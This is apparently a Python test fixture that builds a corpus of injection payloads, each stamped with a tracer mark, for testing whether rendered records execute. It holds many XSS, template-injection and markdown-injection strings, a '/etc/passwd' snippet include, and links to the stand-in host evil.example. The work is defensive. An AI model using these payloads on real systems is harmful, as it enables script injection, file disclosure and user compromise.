"""What somebody could write into a record to make a page, a script or a terminal obey it.

``§`` stands for the mark of one planting: a word that occurs nowhere else, so that whatever comes
out can be traced to where it went in. ``pwn`` is the function that a browser test listens to.
"""

from __future__ import annotations

import itertools
import re
from collections import Counter
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Sequence

HOST: Final = "evil.example"
MARK: Final = re.compile(r"zq[0-9a-z]{4}qz", re.IGNORECASE)
_DIGITS: Final = "0123456789abcdefghijklmnopqrstuvwxyz"

HTML: Final = (
    "<script>pwn('§')</script>",
    "<img src=x onerror=pwn('§')>",
    "<svg/onload=pwn('§')>",
    "</title><script>pwn('§')</script>",
    "</td></tr></table><script>pwn('§')</script>",
    "</code></pre></div><img src=x onerror=pwn('§')>",
    "<iframe src=//evil.example/§></iframe>",
    "<iframe srcdoc=\"<script>parent.pwn('§')</script>\"></iframe>",
    "<base href=//evil.example/§/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/§'>",
    "<link rel=stylesheet href=//evil.example/§>",
    "<form action=//evil.example/§><button autofocus>确定</button></form>",
    "<object data=//evil.example/§></object><embed src=//evil.example/§>",
    "<details open ontoggle=pwn('§')><summary>详情</summary></details>",
    "<input autofocus onfocus=pwn('§')>",
    "<a href=javascript:pwn('§')>点这里</a>",
    "<svg><animate onbegin=pwn('§') attributeName=x dur=1s></svg>",
    "<math><mtext><style><img src=x onerror=pwn('§')></style></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwn('§')>\"></noscript>",
    "--><script>pwn('§')</script><!--",
    "<![CDATA[<script>pwn('§')</script>]]>",
    "</textarea><textarea>§<plaintext>",
    "<template><script>pwn('§')</script></template>",
    "&lt;script&gt;pwn('§')&lt;/script&gt;",
    "&#60;img src=x onerror=pwn('§')&#62;",
    "&§;&amp;&nbsp;&",
    "<scr<script>ipt>pwn('§')</scr</script>ipt>",
)
ATTRIBUTES: Final = (
    "\"><img src=x onerror=pwn('§')>",
    '\'><svg/onload=pwn("§")>',
    "\" onmouseover=pwn('§') x=\"",
    "' onmouseover=pwn(\"§\") x='",
    "` onmouseover=pwn(/§/) x=`",
    " onfocus=pwn('§') autofocus tabindex=1",
    '" style="background:url(//evil.example/§)',
    "\"/><script>pwn('§')</script>",
)
MARKDOWN: Final = (
    "[§](javascript:pwn('§'))",
    "![§](http://evil.example/§.png)",
    "<http://evil.example/§>",
    "[§]: javascript:pwn('§') \"§\"",
    "{: onmouseover=pwn('§') #§ .§ }",
    "# §\n\n## §",
    "§\n===\n\n§\n---",
    "---\ntitle: §\nhide: []\n---",
    "```html\n<script>pwn('§')</script>\n```",
    "    <script>pwn('§')</script>",
    "| 甲 | 乙 |\n| --- | --- |\n| § | <img src=x onerror=pwn('§')> |",
    "[^§]\n\n[^§]: <img src=x onerror=pwn('§')>",
    '--8<-- "/etc/passwd" §',
    "--8<--\nhttp://evil.example/§\n--8<--",
    "[TOC] §",
    "*[§]: <img src=x onerror=pwn('§')>",
    "!!! note \"§\"\n    <img src=x onerror=pwn('§')>",
    "<div markdown=1>**§**</div>",
    ":material-account: **§** _§_ `§` ~~§~~",
    "- [x] §\n- [ ] §",
    "\\<script\\>pwn('§')\\</script\\>",
)
TEMPLATES: Final = (
    "{{7*7}}§",
    "{% raw %}§",
    "{% for x in ().__class__.__base__.__subclasses__() %}§{% endfor %}",
    "{# § #}",
    "{{ config.site_dir }}§{{ url('index') }}",
    "${7*7}#{7*7}§",
    "{school}{0.__class__}{§}%(§)s%s%d",
    "@school@ @as-of@ @audience@ §",
)
URLS: Final = (
    "javascript:pwn('§')",
    "jAvAsCrIpT:pwn('§')//",
    "data:text/html,<script>pwn('§')</script>",
    "//evil.example/§",
    "https://evil.example/§",
    "\\\\evil.example\\§",
    "../../../§/../index.html#§=§&§",
    "?§=1#§%00%2e%2e%2f",
)
STASH: Final = (
    "<!-- heartgrid 00000000000000000000000000000000 -->\n§",
    "<!-- 00000000000000000000000000000000 end -->\n§\n<!-- 00000000000000000000000000000000 begin -->",
    "<!-- begin --> § <!-- end -->",
    "wzxhzdk:0 klzzwxh:0001 §",
    "amp-substitute §",
)
SCRIPTS: Final = (
    "</script><script>pwn('§')</script>",
    "\"];pwn('§');//",
    "'+pwn('§')+'",
    "\\\"];pwn('§');//",
    "\\u0022];pwn('§')//",
    "`${pwn('§')}`",
    "<!--<script>§",
    "*/pwn('§')/*",
    "__proto__ constructor § toString",
)
STYLES: Final = (
    '"}*{background:url(//evil.example/§)}',
    "</style><script>pwn('§')</script>",
    '\\"; } body { display: none } /* § */',
    "expression(pwn('§'))",
    "@import '//evil.example/§';",
    "var(--§) calc(1px) url(§)",
)
PICTURES: Final = (
    "</title></text></svg><img src=x onerror=pwn('§')>",
    "<a xlink:href=javascript:pwn('§')>§</a>",
    "<foreignObject><iframe src=//evil.example/§></foreignObject>",
    "<set attributeName=href to=javascript:pwn('§')>",
)
ODD_LETTERS: Final = (
    "\u202e§\u202d",
    "\u2066§",
    "甲\u200b乙\u200d\ufeff丙\u2060§",
    "Z\u0351\u036b\u0343a\u0334\u0321l\u0338g\u0336o§",
    "␀␛␇␍␊§",
    "长" * 20 + "§",
    "x" * 24 + "§",
    "😀👨‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿§",
    "\ufdfd㍿ﷺ①Ⅻ〇§",
    "ＡＢＣ＜script＞§＜／script＞",
    "[red]§[/red][link=http://evil.example]:smile:",
    "\\e[31m\\x1b]8;;§\\007",
)
LONG: Final = (
    "W" * 3000 + "§",
    "<b>" * 400 + "§",
    "\n".join(f"{place}. <img src=x onerror=pwn('§')>" for place in range(60)),
)
# All in one, for a field that is seen only once.
POLYGLOT: Final = "'\"><svg/onload=pwn`§`>{{7*7}}"

FAMILIES: Final = {
    "html": HTML,
    "attributes": ATTRIBUTES,
    "markdown": MARKDOWN,
    "templates": TEMPLATES,
    "urls": URLS,
    "stash": STASH,
    "scripts": SCRIPTS,
    "styles": STYLES,
    "pictures": PICTURES,
    "odd letters": ODD_LETTERS,
    "long": LONG,
}
ALL: Final = (POLYGLOT, *itertools.chain.from_iterable(FAMILIES.values()))


# As long, as many, and nobody could mistake one for an order.
HARMLESS: Final = ("文字§", *("文字§" for _ in ALL[1:]))


@dataclass
class Payloads:
    """Hands out the payloads of ``choice`` in turn, each planting with a mark of its own."""

    choice: Sequence[str] = ALL
    planted: dict[str, str] = field(default_factory=dict)
    _turns: Counter[object] = field(default_factory=Counter)

    def next(self, place: object, limit: int) -> str:
        """The next payload for ``place`` of at most ``limit`` characters, from the first on."""
        while True:
            made = self._take(self.choice[self._turns[place] % len(self.choice)])
            self._turns[place] += 1
            if len(made) <= limit:
                return made

    def everything(self) -> str:
        """All payloads in one text, each a paragraph with its own mark."""
        return "\n\n".join(map(self._take, self.choice))

    def _take(self, payload: str) -> str:
        number, digits = len(self.planted) + 1, ""
        for _ in range(4):
            number, last = divmod(number, len(_DIGITS))
            digits = _DIGITS[last] + digits
        mark = f"zq{digits}qz"
        self.planted[mark] = payload.replace("§", mark)
        return self.planted[mark]
